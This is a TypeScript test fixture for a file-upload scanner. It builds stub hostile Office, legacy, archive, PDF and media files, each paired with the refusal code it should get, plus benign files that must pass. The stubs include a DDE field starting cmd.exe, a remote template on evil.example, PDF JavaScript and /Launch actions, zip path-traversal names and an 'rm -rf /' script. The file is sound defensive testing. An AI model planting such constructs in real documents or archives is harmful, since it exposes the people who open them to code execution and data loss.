import { boundSheet, compoundFile, excelStream, slideStream, wordStream } from './compound-files'
import { encryption, packedPdf, pdfFile } from './pdf-files'
import {
  encryptedEntry,
  lyingSize,
  officeFile,
  overlapping,
  relationsOf,
  renamed,
  symbolicLink,
  zipOf,
} from './zip-files'

/** A file as it is sent: what it is, its name, its bytes. */
export type SentFile = [what: string, name: string, bytes: Buffer]
/** … and the code and part of the sentence that it is refused with. */
export type HostileFile = [...SentFile, code: string, where?: string]

const MZ = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')
const page = Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>')
const docm = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const documentRelations = (...relations: Parameters<typeof relationsOf>[0]) => ({
  'word/_rels/document.xml.rels': relationsOf(relations),
})
const document = (inner: string) => `<w:document><w:body><w:p>${inner}</w:p></w:body></w:document>`
const ole = compoundFile([{ name: '\u0001Ole10Native', content: MZ }])

export const hostileOffice: HostileFile[] = [
  [
    'a docx with VBA',
    '表.docx',
    officeFile('docx', { parts: { 'word/vbaProject.bin': ole } }),
    'file-macros',
    'word/vbaProject.bin',
  ],
  ['a docm called docx', '表.docx', officeFile('docx', { main: docm }), 'file-macros'],
  [
    'macros under another name',
    '表.docx',
    officeFile('docx', {
      parts: {
        'word/media/image1.dat': ole,
        ...documentRelations(['vbaProject', 'media/image1.dat']),
      },
    }),
    'file-macros',
  ],
  [
    'a sheet of Excel 4 macros',
    '表.xlsx',
    officeFile('xlsx', { parts: { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' } }),
    'file-macros',
  ],
  [
    'an ActiveX control',
    '表.docx',
    officeFile('docx', { parts: { 'word/activeX/activeX1.xml': '<ax:ocx/>' } }),
    'file-embedded',
  ],
  [
    'an embedded OLE object',
    '表.pptx',
    officeFile('pptx', { parts: { 'ppt/embeddings/oleObject1.bin': ole } }),
    'file-embedded',
  ],
  [
    'a program in it',
    '表.xlsx',
    officeFile('xlsx', { parts: { 'xl/media/image1.png': MZ } }),
    'file-program',
    'xl/media/image1.png',
  ],
  [
    'macros in a table behind a chart',
    '表.pptx',
    officeFile('pptx', {
      parts: {
        'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': officeFile('xlsx', {
          parts: { 'xl/vbaProject.bin': ole },
        }),
      },
    }),
    'file-macros',
    'Sheet1.xlsx › xl/vbaProject.bin',
  ],
  [
    'a document of another kind that is taken in',
    '表.docx',
    officeFile('docx', { parts: documentRelations(['aFChunk', 'chunk.rtf']) }),
    'file-embedded',
  ],
  [
    'an archive called a picture',
    '表.docx',
    officeFile('docx', { parts: { 'word/media/image1.png': zipOf({ 'a.exe': MZ }) } }),
    'file-embedded',
    'image1.png',
  ],
  [
    'a template from elsewhere',
    '表.docx',
    officeFile('docx', {
      parts: {
        'word/_rels/settings.xml.rels': relationsOf([
          ['attachedTemplate', 'https://evil.example/t.dotm', 'External'],
        ]),
      },
    }),
    'file-remote',
    'https://evil.example/t.dotm',
  ],
  [
    'a template on a share',
    '表.docx',
    officeFile('docx', {
      parts: documentRelations(['attachedTemplate', 'file://10.0.0.1/t.dotm', 'External']),
    }),
    'file-remote',
  ],
  [
    'a picture from elsewhere',
    '表.docx',
    officeFile('docx', { parts: documentRelations(['image', '\\\\10.0.0.1\\a.png', 'External']) }),
    'file-remote',
  ],
  [
    'a link that runs',
    '表.docx',
    officeFile('docx', {
      parts: documentRelations(['hyperlink', 'javascript:alert(1)', 'External']),
    }),
    'file-script',
  ],
  [
    'a field that starts a program, cut into pieces',
    '表.docx',
    officeFile('docx', {
      content: document(
        '<w:r><w:fldChar/><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r>',
      ),
    }),
    'file-script',
  ],
  [
    'a field that fetches a picture',
    '表.docx',
    officeFile('docx', {
      content: document(
        '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/a&quot;"/>',
      ),
    }),
    'file-remote',
  ],
  [
    'a link of data exchange',
    '表.xlsx',
    officeFile('xlsx', {
      parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink/></externalLink>' },
    }),
    'file-script',
  ],
  ['an xlsx called docx', '表.docx', officeFile('xlsx'), 'file-kind'],
  ['a plain zip called docx', '表.docx', zipOf({ 'a.txt': '文本' }), 'file-kind'],
  [
    'an encrypted docx',
    '表.docx',
    compoundFile([
      { name: 'EncryptionInfo', content: Buffer.alloc(64) },
      { name: 'EncryptedPackage', content: Buffer.alloc(64) },
    ]),
    'file-encrypted',
  ],
  [
    'broken relations',
    '表.docx',
    officeFile('docx', { parts: { 'word/_rels/document.xml.rels': '<Relationships>' } }),
    'file-damaged',
  ],
  [
    'a document type in its relations',
    '表.docx',
    officeFile('docx', {
      parts: { 'word/_rels/document.xml.rels': '<!DOCTYPE r [<!ENTITY a "b">]><Relationships/>' },
    }),
    'file-damaged',
  ],
  ['a cut docx', '表.docx', officeFile('docx').subarray(0, -40), 'file-damaged'],
]

const macroStorage = [{ name: 'Macros' }, { name: 'VBA' }, { name: '_VBA_PROJECT', content: MZ }]
const doc = (flags = 0) => ({ name: 'WordDocument', content: wordStream(flags) })
const xls = (...records: Parameters<typeof excelStream>) => ({
  name: 'Workbook',
  content: excelStream(...records),
})
const ppt = (...records: Parameters<typeof slideStream>) => ({
  name: 'PowerPoint Document',
  content: slideStream(...records),
})

export const hostileLegacy: HostileFile[] = [
  ['a doc with macros', '表.doc', compoundFile([doc(), ...macroStorage]), 'file-macros'],
  ['an encrypted doc', '表.doc', compoundFile([doc(0x0100)]), 'file-encrypted'],
  [
    'a doc with a package',
    '表.doc',
    compoundFile([doc(), { name: '_1234567890' }, { name: '\u0001Ole10Native', content: MZ }]),
    'file-embedded',
  ],
  [
    'an xls with macros',
    '表.xls',
    compoundFile([xls(boundSheet(0)), { name: '_VBA_PROJECT_CUR' }]),
    'file-macros',
  ],
  [
    'an xls with a sheet of Excel 4 macros',
    '表.xls',
    compoundFile([xls(boundSheet(0), boundSheet(1))]),
    'file-macros',
  ],
  ['an encrypted xls', '表.xls', compoundFile([xls([0x2f, Buffer.alloc(54)])]), 'file-encrypted'],
  [
    'a ppt with macros',
    '表.ppt',
    compoundFile([ppt([0x0400, Buffer.from([1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0])])]),
    'file-macros',
  ],
  [
    'a ppt with an object',
    '表.ppt',
    compoundFile([ppt([0x1011, Buffer.alloc(16)])]),
    'file-embedded',
  ],
  ['an xls called doc', '表.doc', compoundFile([xls(boundSheet(0))]), 'file-kind'],
  [
    'an installer called doc',
    '表.doc',
    compoundFile([{ name: 'Property', content: MZ }]),
    'file-kind',
  ],
  ['a wps with macros', '表.wps', compoundFile([doc(), ...macroStorage]), 'file-macros'],
  ['half a doc', '表.doc', compoundFile([doc()]).subarray(0, 700), 'file-damaged'],
]

const two = zipOf({ 'a.txt': '一'.repeat(500), 'b.txt': '二'.repeat(500) })
const many = Object.fromEntries(Array.from({ length: 10_001 }, (_, at) => [`${at}.txt`, '']))
const nested = (depth: number): Buffer =>
  zipOf(depth === 0 ? { 'a.txt': '文本' } : { 'inner.zip': nested(depth - 1) })

export const hostileArchives: HostileFile[] = [
  ['a program', '材料.zip', zipOf({ '表/安装.exe': MZ }), 'file-program', '表/安装.exe'],
  ['a program called a picture', '材料.zip', zipOf({ 'a.jpg': MZ }), 'file-program', 'a.jpg'],
  ['a program with a dot behind', '材料.zip', zipOf({ 'a.exe.': 'x' }), 'file-program'],
  ['an ELF', '材料.zip', zipOf({ a: Buffer.from('7f454c4602010100', 'hex') }), 'file-program'],
  ['a Mach-O', '材料.zip', zipOf({ a: Buffer.from('cffaedfe07000001', 'hex') }), 'file-program'],
  ['a script', '材料.zip', zipOf({ 说明: '#!/bin/sh\nrm -rf /\n' }), 'file-program', '说明'],
  ['a page', '材料.zip', zipOf({ 'index.html': page }), 'file-program', 'index.html'],
  ['a shortcut', '材料.zip', zipOf({ '通知.pdf.lnk': 'x' }), 'file-program'],
  [
    'macros in a document',
    '材料.zip',
    zipOf({ '表.docx': officeFile('docx', { parts: { 'word/vbaProject.bin': ole } }) }),
    'file-macros',
    '表.docx › word/vbaProject.bin',
  ],
  ['a name that leads out', '材料.zip', zipOf({ '../../etc/passwd': 'x' }), 'file-entry-name'],
  ['an absolute name', '材料.zip', zipOf({ '/etc/passwd': 'x' }), 'file-entry-name'],
  ['a name with a drive', '材料.zip', zipOf({ 'C:a.txt': 'x' }), 'file-entry-name'],
  ['a name with a backslash', '材料.zip', zipOf({ '..\\a.txt': 'x' }), 'file-entry-name'],
  ['a name with a line end', '材料.zip', zipOf({ 'a\r\n.txt': 'x' }), 'file-entry-name'],
  ['a name that turns around', '材料.zip', zipOf({ 'a\u202etxt.exe': 'x' }), 'file-entry-name'],
  [
    'a name that stands there twice',
    '材料.zip',
    renamed(zipOf({ 'a.txt': 'x', 'b.txt': 'y' }), 'b.txt', 'A.txt'),
    'file-entry-name',
  ],
  ['a link', '材料.zip', symbolicLink(two, 'a.txt'), 'file-entry-name'],
  ['encrypted files', '材料.zip', encryptedEntry(two, 'a.txt'), 'file-encrypted', 'a.txt'],
  ['overlapping files', '材料.zip', overlapping(two, 'b.txt', 'a.txt'), 'file-swollen'],
  [
    'a file that says it is small and is not',
    '材料.zip',
    lyingSize(zipOf({ 'a.txt': '一'.repeat(100_000) }), 'a.txt', 100),
    'file-damaged',
  ],
  [
    '50 MiB of nothing',
    '材料.zip',
    zipOf({ 'a.txt': new Uint8Array(50 * 1024 * 1024) }),
    'file-swollen',
  ],
  ['more than 10,000 files', '材料.zip', zipOf(many), 'file-swollen'],
  ['archives four deep', '材料.zip', nested(4), 'file-nested'],
  ['an archive of another kind', '材料.zip', zipOf({ 'a.rar': 'x' }), 'file-nested', 'a.rar'],
  [
    'an archive called a picture',
    '材料.zip',
    zipOf({ 'a.jpg': nested(0) }),
    'file-nested',
    'a.jpg',
  ],
  ['bytes behind its end', '材料.zip', Buffer.concat([two, page]), 'file-two-formats'],
  ['a comment', '材料.zip', withComment(two, page), 'file-two-formats'],
  ['only an end', '材料.zip', Buffer.concat([Buffer.from('504b0304', 'hex'), MZ]), 'file-damaged'],
  ['a program called zip', '材料.zip', MZ, 'file-kind'],
  ['no OFD.xml', '文件.ofd', zipOf({ 'a.xml': '<a/>' }), 'file-kind'],
  [
    'an OFD with a file attached',
    '文件.ofd',
    zipOf({ 'OFD.xml': '<ofd:OFD/>', 'Doc_0/Attachs/a.dat': 'x' }),
    'file-embedded',
  ],
  [
    'an OFD with a program',
    '文件.ofd',
    zipOf({ 'OFD.xml': '<ofd:OFD/>', 'a.dat': MZ }),
    'file-program',
  ],
]

function withComment(zip: Buffer, comment: Buffer): Buffer {
  const bytes = Buffer.concat([zip, comment])
  bytes.writeUInt16LE(comment.length, zip.length - 2)
  return bytes
}

const script = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'

export const hostilePdfs: HostileFile[] = [
  ['a script on opening', '通知.pdf', pdfFile({ catalog: script }), 'file-script', '/JavaScript'],
  [
    'a script spelt otherwise',
    '通知.pdf',
    pdfFile({ catalog: script.replace('/JS', '/J#53').replace('/JavaScript', '/Java#53cript') }),
    'file-script',
  ],
  ['a script in a packed object', '通知.pdf', packedPdf({ catalog: script }), 'file-script'],
  [
    'a script in an object packed twice',
    '通知.pdf',
    packedPdf({ catalog: script }, 'in hex'),
    'file-script',
  ],
  [
    'a script in an encrypted file that anybody may read',
    '通知.pdf',
    pdfFile({ catalog: script, trailer: encryption('') }),
    'file-script',
  ],
  [
    'scripts by name',
    '通知.pdf',
    pdfFile({
      catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>',
      objects: ['<< /S /JavaScript /JS (1) >>'],
    }),
    'file-script',
  ],
  [
    'a program that is started',
    '通知.pdf',
    pdfFile({
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]',
    }),
    'file-script',
    '/Launch',
  ],
  [
    'an address that opens by itself',
    '通知.pdf',
    pdfFile({
      catalog: '/OpenAction 5 0 R',
      objects: ['<< /S /URI /URI (https://evil.example) >>'],
    }),
    'file-script',
    '/OpenAction /URI',
  ],
  [
    'an address that opens with the page',
    '通知.pdf',
    pdfFile({ page: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
    'file-script',
  ],
  [
    'a form that sends itself',
    '通知.pdf',
    pdfFile({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
    'file-script',
  ],
  [
    'an XFA form',
    '通知.pdf',
    pdfFile({ catalog: '/AcroForm << /XFA 4 0 R >>' }),
    'file-script',
    '/XFA',
  ],
  [
    'a file inside',
    '通知.pdf',
    packedPdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>',
      objects: ['<< /Type /Filespec /F (a.exe) >>'],
    }),
    'file-embedded',
    '/EmbeddedFiles',
  ],
  [
    'moving pictures',
    '通知.pdf',
    pdfFile({ page: '/Annots [<< /Subtype /RichMedia >>]' }),
    'file-embedded',
  ],
  ['a password', '通知.pdf', pdfFile({ trailer: encryption('secret') }), 'file-encrypted'],
  ['a page in front', '通知.pdf', Buffer.concat([page, pdfFile()]), 'file-kind'],
  [
    'a page at its head',
    '通知.pdf',
    Buffer.concat([Buffer.from('%PDF-1.7\n%'), page, pdfFile()]),
    'file-two-formats',
  ],
  ['a zip behind', '通知.pdf', Buffer.concat([pdfFile(), two]), 'file-two-formats'],
  ['bytes behind its end', '通知.pdf', Buffer.concat([pdfFile(), MZ]), 'file-two-formats'],
  ['no end', '通知.pdf', pdfFile().subarray(0, -8), 'file-damaged'],
  ['nothing but the marks', '通知.pdf', Buffer.from('%PDF-1.7\n%%EOF\n'), 'file-damaged'],
]

const box = (type: string, size: number) => {
  const bytes = Buffer.alloc(size)
  bytes.writeUInt32BE(size)
  bytes.write(type, 4, 'latin1')
  return bytes
}
const ftyp = box('ftyp', 24)
ftyp.write('isom', 8, 'latin1')
const mp4 = Buffer.concat([ftyp, box('moov', 64), box('mdat', 512)])
const mp3 = Buffer.concat([Buffer.from('49443304000000000000fffb9064', 'hex'), Buffer.alloc(400)])

export const hostileMedia: HostileFile[] = [
  ['a zip behind an mp4', '视频.mp4', Buffer.concat([mp4, two]), 'file-two-formats'],
  ['a page behind an mp4', '视频.mp4', Buffer.concat([mp4, page]), 'file-two-formats'],
  ['a cut mp4', '视频.mp4', mp4.subarray(0, -9), 'file-damaged'],
  ['a zip behind an mp3', '录音.mp3', Buffer.concat([mp3, two]), 'file-two-formats'],
  [
    'a page in an mp3',
    '录音.mp3',
    Buffer.concat([mp3.subarray(0, 10), page, mp3]),
    'file-two-formats',
  ],
]

const localTemplate = relationsOf([
  ['attachedTemplate', 'file:///C:\\Users\\office\\Normal.dotm', 'External'],
])
const links = documentRelations(
  ['hyperlink', 'https://www.example.gov.cn/', 'External'],
  ['hyperlink', 'mailto:office@example.gov.cn', 'External'],
)

/** Files as offices make them, which must pass. */
export const honestFiles: SentFile[] = [
  [
    'a docx with links and a template of its author',
    '表.docx',
    officeFile('docx', { parts: { ...links, 'word/_rels/settings.xml.rels': localTemplate } }),
  ],
  [
    'a docx with a page number and a table of contents',
    '表.docx',
    officeFile('docx', {
      content: document(
        '<w:r><w:instrText>PAGE</w:instrText></w:r><w:fldSimple w:instr="TOC \\o"/>',
      ),
    }),
  ],
  [
    'an xlsx with settings of a printer',
    '表.xlsx',
    officeFile('xlsx', { parts: { 'xl/printerSettings/printerSettings1.bin': 'A4' } }),
  ],
  [
    'a pptx with a table behind a chart',
    '表.pptx',
    officeFile('pptx', {
      parts: { 'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': officeFile('xlsx') },
    }),
  ],
  [
    'a doc',
    '表.doc',
    compoundFile([doc(), { name: 'ObjectPool' }, { name: '1Table', content: Buffer.alloc(5000) }]),
  ],
  ['an xls', '表.xls', compoundFile([xls(boundSheet(0))])],
  ['a ppt', '表.ppt', compoundFile([ppt([0x0400, Buffer.alloc(12)])])],
  ['an older wps', '文.wps', compoundFile([doc()])],
  ['a newer wps', '文.wps', officeFile('docx')],
  [
    'an ofd',
    '文件.ofd',
    zipOf({ 'OFD.xml': '<ofd:OFD/>', 'Doc_0/Document.xml': '<ofd:Document/>' }),
  ],
  [
    'a zip of documents and pictures',
    '材料.zip',
    zipOf({
      '表/': '',
      '表/登记表.docx': officeFile('docx'),
      '说明.txt': '说明',
      '内层.zip': zipOf({ '图.png': 'x' }),
    }),
  ],
  [
    'a zip with names of Chinese Windows',
    '材料.zip',
    renamed(zipOf({ 'abcd.txt': 'x' }), 'abcd.txt', Buffer.from('b1edb8f12e747874', 'hex')),
  ],
  [
    'a pdf',
    '通知.pdf',
    pdfFile({
      catalog: '/OpenAction [3 0 R /Fit]',
      trailer: '/Info << /Title (Rules of /JS and /Launch) >>',
    }),
  ],
  [
    'a pdf that opens at a place',
    '通知.pdf',
    packedPdf({ catalog: '/OpenAction 5 0 R', objects: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
  ],
  [
    'a pdf with links',
    '通知.pdf',
    pdfFile({
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.example.gov.cn/JS/) >> >>]',
    }),
  ],
  ['a pdf that may not be printed', '通知.pdf', pdfFile({ trailer: encryption('') })],
  ['an mp4', '视频.mp4', mp4],
  ['an mp3', '录音.mp3', mp3],
]

export const hostileFiles: HostileFile[] = [
  ...hostileOffice,
  ...hostileLegacy,
  ...hostileArchives,
  ...hostilePdfs,
  ...hostileMedia,
]
